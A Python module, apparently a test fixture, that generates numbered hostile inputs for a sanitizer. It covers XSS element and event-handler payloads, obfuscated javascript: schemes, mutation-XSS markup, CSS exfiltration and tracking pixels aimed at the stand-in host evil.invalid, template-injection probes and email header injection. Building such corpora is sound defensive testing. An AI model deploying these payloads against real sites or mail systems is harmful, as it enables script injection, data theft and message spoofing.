# ruff: noqa: E501 - a text stands on one line
"""Hostile texts, made from the building blocks that published collections share, by kind.

What would run calls `ran()`, what would leave asks https://evil.invalid; `{n}` is the number of the vector, so
that what was seen can be traced back. Nothing here is a list that somebody else wrote: elements, events,
schemes, disguises and broken markup are combined.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product

RUN = "ran({n})"
AWAY = "https://evil.invalid/{n}"

#: Elements that fire an event by themselves, or when somebody moves or types, and what that takes.
_CARRIERS = (
    ("img", "src=x", ("onerror",)),
    ("img", "src='data:image/gif;base64,R0lGODlhAQABAAAAACw='", ("onload", "onclick", "onmouseover")),
    ("svg", "", ("onload", "onmouseenter")),
    ("body", "", ("onload", "onpageshow", "onhashchange", "onresize", "onscroll")),
    ("iframe", "srcdoc=x", ("onload",)),
    ("video", "src=x", ("onerror", "onloadstart")),
    ("audio", "src=x", ("onerror",)),
    ("input", "autofocus", ("onfocus", "onblur", "onchange", "oninput")),
    ("select", "autofocus", ("onfocus",)),
    ("textarea", "autofocus", ("onfocus", "onselect")),
    ("details", "open", ("ontoggle",)),
    ("marquee", "", ("onstart", "onbounce")),
    ("object", "data=x", ("onerror",)),
    ("link", "rel=stylesheet href=x", ("onerror",)),
    ("style", "", ("onload",)),
    ("script", "src=x", ("onerror",)),
    ("a", "href=#", ("onclick", "onmouseover", "onpointerdown", "ondragstart")),
    ("div", "style='animation:x 1s' tabindex=1", ("onanimationstart", "onpaste", "oncut", "onwheel")),
    ("p", "contenteditable", ("onbeforeinput", "ontouchstart", "oncontextmenu")),
    ("dialog", "open", ("onclose",)),
    ("form", "", ("onsubmit", "onreset")),
)
#: How an attribute is written so that a filter of text does not see it.
_WRITINGS = (
    "<{tag} {other} {event}={run}>",
    '<{tag} {other} {event}="{run}">',
    "<{tag}/{other}/{event}='{run}'>",
    "<{tag} {other}\n{event}\t=\n{run} ",
    "<{TAG} {other} {Event}={entities}>",
)
_TARGETS = (
    "<a href={q}{url}{q}>go</a>",
    "<area href={q}{url}{q}>",
    "<form action={q}{url}{q}><input type=submit></form>",
    "<button formaction={q}{url}{q}>go</button>",
    "<iframe src={q}{url}{q}></iframe>",
    "<embed src={q}{url}{q}>",
    "<object data={q}{url}{q}></object>",
    "<svg><a xlink:href={q}{url}{q}><text y=20>go</text></a></svg>",
    "<math href={q}{url}{q}>go</math>",
    "<meta http-equiv=refresh content={q}0;url={url}{q}>",
    "<base href={q}{url}{q}>",
)
_SCHEMES = (
    "javascript:{run}", "JaVaScRiPt:{run}", " javascript:{run}", "\x01javascript:{run}", "java\tscript:{run}",
    "java\nscript:{run}", "java\r\nscript:{run}", "javascript\t:{run}", "java&#10;script:{run}",
    "java&Tab;script&colon;{run}", "&#106;avascript:{run}", "&#x6A&#x61vascript:{run}", "\u00a0javascript:{run}",
    "java\x00script:{run}", "java\u200bscript:{run}", "javascript&#0000058{run}", "//javascript:{run}",
    "javascript://evil.invalid/%0a{run}", "javascript:/*--></title></style>*/{run}", "vbscript:{run}",
    "livescript:{run}", "mocha:{run}", "feed:javascript:{run}", "view-source:javascript:{run}", "jar:javascript:{run}",
    "data:text/html,<script>{run}</script>", "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
    "DATA:image/svg+xml,<svg onload={run}>", "blob:{away}", "filesystem:{away}", "file:///etc/passwd", "about:blank",
    "intent:{away}", "ms-word:{away}", "cid:x", "ftp://evil.invalid/{n}", "ws://evil.invalid/{n}",
)  # fmt: skip
_ELEMENTS = (
    "<script>{run}</script>", "<SCRIPT SRC={away}></SCRIPT>", "<script/x>{run}</script\n>", "<<script>{run}//<</script>",
    "<script\x00>{run}</script>", "<scr<script>ipt>{run}</scr</script>ipt>", "<script>{run}", "<script src=//evil.invalid/{n}>",
    "<script type=module>import '{away}'</script>", "<svg><script>{run}</script></svg>",
    "<svg><script href={away} /></svg>", "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{run}></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload={run}>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{run}</script>'></foreignObject></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:{run}>x</maction></math>",
    "<iframe srcdoc='&lt;script&gt;{run}&lt;/script&gt;'></iframe>", "<iframe src=javascript:{run}>",
    "<object type=text/html data='data:text/html,<script>{run}</script>'></object>", "<embed code={away} type=text/html>",
    "<applet code=x archive={away}></applet>", "<isindex action=javascript:{run} type=image>",
    "<frameset onload={run}><frame src={away}></frameset>", "<layer src={away}></layer>", "<xml id=x src={away}></xml>",
    "<portal src={away}></portal>", "<keygen autofocus onfocus={run}>", "<template><script>{run}</script></template>",
    "<noembed><script>{run}</script></noembed>", "<xss onfocus={run} tabindex=1 autofocus>x</xss>",
    "<x-y onclick={run}>x</x-y>", "<slot onslotchange={run}>", "<dialog open onclose={run}><form method=dialog><button>x",
    "<input type=image src={away}>", "<form id=t></form><button form=t formaction=javascript:{run}>x</button>",
    "<meta http-equiv=Set-Cookie content=a=b>", "<meta http-equiv=Content-Security-Policy content=x>", "<title>{run}</title>",
    "<plaintext>", "<xmp><script>{run}</script></xmp>", "<listing>&lt;img onerror={run} src=x&gt;</listing>",
    "<a href=#><div popover onbeforetoggle={run}>x", "<img src=x name=cookie><form name=body>", "<a id=defaultView href=x>x</a>",
)  # fmt: skip
_STYLES = (
    "background:url({away})", "background:url('javascript:{run}')", "width:expression({run})", "w\\69dth:exp/**/ression({run})",
    "behavior:url({away})", "-moz-binding:url({away}#x)", "list-style-image:url({away})", "cursor:url({away}),auto",
    "position:fixed;top:0;left:0;width:100%;height:100%", "content:url({away})", "background:\\75rl({away})",
    "background:image-set('{away}' 1x)", "filter:url({away})", "font:x;@import '{away}'", "color:red;}}</style><script>{run}</script>",
)  # fmt: skip
_SHEETS = (
    "<style>@import '{away}';</style>", "<style>@import url({away})</style>", "<style>body{{background:url({away})}}</style>",
    "<style>@font-face{{font-family:x;src:url({away})}}*{{font-family:x}}</style>", "<style>input[value^=a]{{background:url({away})}}</style>",
    "<link rel=stylesheet href={away}>", "<link rel=import href={away}>", "<style><!--</style><script>{run}</script>-->",
    "<svg><style>@import '{away}';</style></svg>", "<style media='x' onload={run}>p{{}}</style>",
)  # fmt: skip
#: Markup that one parser reads as text and the next as markup.
_MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror={run}>'>", "<title><a id='</title><img src=x onerror={run}>'>",
    "<textarea><a title='</textarea><img src=x onerror={run}>'>", "<style><a title='</style><img src=x onerror={run}>'>",
    "<svg></p><style><a id='</style><img src=x onerror={run}>'>", "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<math><annotation-xml encoding='text/html'><svg><img src=x onerror={run}>", "<svg><desc><table><tr><svg onload={run}>",
    "<svg><title><style><img src=x onerror={run}>", "<select><iframe></select><img src=x onerror={run}>",
    "<table><td><math><mi><img src=x onerror={run}>", "<!--><img src=x onerror={run}>-->", "<!--!><img src=x onerror={run}>-->",
    "<!-- --!><img src=x onerror={run}>", "<![CDATA[<img src=x onerror={run}>]]>", "<svg><![CDATA[><img src=x onerror={run}>]]></svg>",
    "<?xml version='1.0'?><img src=x onerror={run}>", "<? <img src=x onerror={run}> ?>", "<!doctype x [<!entity y '<script>'>]>&y;{run}",
    "</p><img src=x onerror={run}>", "</textarea></title></style><img src=x onerror={run}>", '"><img src=x onerror={run}>',
    "'><svg onload={run}>", '" onmouseover={run} x="', "' autofocus onfocus={run} x='", "`onerror={run}`", "]]><script>{run}</script>",
    "--><script>{run}</script>", "*/</script><script>{run}</script>", "<a href='x' title='<img src=x onerror={run}>'>x</a>",
    "<img alt='`><script>{run}</script>' src=x>", "<img src='x' alt='<x' onerror={run}>", "<a <script>{run}</script>>x</a>",
    "<img \x0csrc=x\x0conerror={run}>", "<img src=x onerror\x00={run}>", "<img\x0bsrc=x onerror={run}>", "<im\x00g src=x onerror={run}>",
    "\ufeff<script>{run}</script>", "+ADw-script+AD4-{run}+ADw-/script+AD4-", "&lt;script&gt;{run}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{run}&amp;lt;/script&amp;gt;", "&#60;script&#62;{run}&#60;/script&#62;", "&#x3c;img src=x onerror={run}&#x3e;",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e", "\u2039img src=x onerror={run}\u203a", "%3Cscript%3E{run}%3C/script%3E",
    "\\u003cscript\\u003e{run}", "<" * 300 + "script>{run}</script>", "<b>" * 300 + "<img src=x onerror={run}>",
    "<div><svg>" * 40 + "<img src=x onerror={run}>",
)  # fmt: skip
#: Sent by the mere look at them, and nothing but that.
_TRACKERS = (
    "<img src={away} width=1 height=1 alt=x>", "<img src={away} alt='A school hall'>", "<img src={away}>",
    "<img src=//evil.invalid/{n} alt='A school hall'>", "<img srcset='{away} 2x' src={away} alt='A hall'>",
    "<picture><source srcset={away}><img src={away} alt='A hall'></picture>", "<video poster={away}></video>",
    "<video><source src={away}></video>", "<audio src={away} autoplay></audio>", "<track src={away}>",
    "<table background={away}><tr><td background={away}>x</table>", "<body background={away}>", "<bgsound src={away}>",
    "<link rel=prefetch href={away}>", "<link rel=dns-prefetch href={away}>", "<link rel=preconnect href={away}>",
    "<link rel=icon href={away}>", "<a href=# ping={away}>x</a>", "<svg><image href={away} /></svg>",
    "<svg><feImage xlink:href={away} /></svg>", "<input type=image src={away}>", "<iframe src={away}></iframe>",
    "<blockquote cite={away}><img lowsrc={away} dynsrc={away} alt='A hall'></blockquote>", "<html manifest={away}>",
    "<img src=https://pictures.example.org@evil.invalid/{n} alt='A hall'>", "<img src=https:evil.invalid/{n} alt='A hall'>",
    "<img src=https://pictures.example.org.evil.invalid/{n} alt='A hall'>", "<img src=https:\\\\evil.invalid/{n} alt='A hall'>",
    "<img src='https://pictures.example.org\\@evil.invalid/{n}' alt='A hall'>", "<img src=http://pictures.example.org/{n} alt='A hall'>",
)  # fmt: skip
#: What a template engine, a merge field or a text part could take for its own.
_TEMPLATES = (
    "{{{{ 7*7 }}}}", "{{% import os %}}", "{{{{ member.email }}}}", "{{{{ ''.__class__.__mro__ }}}}", "{{# x #}}", "${{7*7}}",
    "<%= 7*7 %>", "#{{7*7}}", "*|EMAIL|*", "%%email%%", "{{{{ unsubscribe_url }}}}", "{{{{ '<script>{run}</script>' | safe }}}}",
)  # fmt: skip
_BREAKS = (
    "\r\n",
    "\n",
    "\r",
    "\x0b",
    "\x0c",
    "\x1c",
    "\x85",
    "\u2028",
    "\u2029",
    "%0d%0a",
    "&#13;&#10;",
    "\\r\\n",
    "\x00\r\n",
)
_HEADERS = (
    "Bcc: evil@evil.invalid", "X-Injected: yes", "Content-Type: text/html\r\n\r\n<script>{run}</script>",
    "=?utf-8?q?=0D=0ABcc=3A?= evil@evil.invalid",
)  # fmt: skip


@dataclass(frozen=True)
class Vector:
    """One hostile text. n: its number; kind: what it tries."""

    n: int
    kind: str
    text: str


def vectors() -> list[Vector]:
    """All of them, each once, always in one order."""
    seen: dict[str, str] = {}
    for kind, text in _all():
        seen.setdefault(text, kind)
    return [
        Vector(n, kind, text.format(run=RUN.format(n=n), away=AWAY.format(n=n), n=n))
        for n, (text, kind) in enumerate(seen.items(), 1)
    ]


def _all() -> Iterator[tuple[str, str]]:
    yield from (("element", text) for text in _ELEMENTS)
    yield from (("event", text) for text in _events())
    yield from (("scheme", text) for text in _schemes())
    yield from (("style", f'<p style="{style}">x</p>') for style in _STYLES)
    yield from (("style", sheet) for sheet in _SHEETS)
    yield from (("mutation", text) for text in _MUTATIONS)
    yield from (("tracker", text) for text in _TRACKERS)
    yield from (("template", text) for text in _TEMPLATES)
    yield from (("header", f"News{end}{header}") for end, header in product(_BREAKS, _HEADERS))


def _events() -> Iterator[str]:
    writings = 0
    for tag, other, events in _CARRIERS:
        for event in events:
            for step in (0, 2):
                writing = _WRITINGS[(writings + step) % len(_WRITINGS)]
                yield writing.format(
                    tag=tag, TAG=tag.upper(), other=other, event=event, Event=event.title(), run="{run}",
                    entities="&#114;an({n})",
                )  # fmt: skip
            writings += 1


def _schemes() -> Iterator[str]:
    for place, scheme in enumerate(_SCHEMES):
        yield scheme
        for target in (_TARGETS[0], _TARGETS[1 + place % (len(_TARGETS) - 1)]):
            yield target.format(q="\"'"[place % 2], url=scheme)


def fuzzed_names(count: int) -> Iterator[str]:
    """Display names that want to be more than one address; the same ones each time."""
    dice = random.Random(5321)
    pieces = [
        ",", '"', "<", ">", "\\", ";", ":", "@", " ", "(", ")", "[", "]", ".", "'", "=?utf-8?q?", "?=", "=2C", "\t",
        "Anna", "Siân", "ŵ", "👩‍🏫", "evil@evil.invalid", "<evil@evil.invalid>", '" <evil@evil.invalid>, "', "\u202e", "\x00",
    ]  # fmt: skip
    for _ in range(count):
        yield "".join(dice.choices(pieces, k=dice.randint(1, 12)))
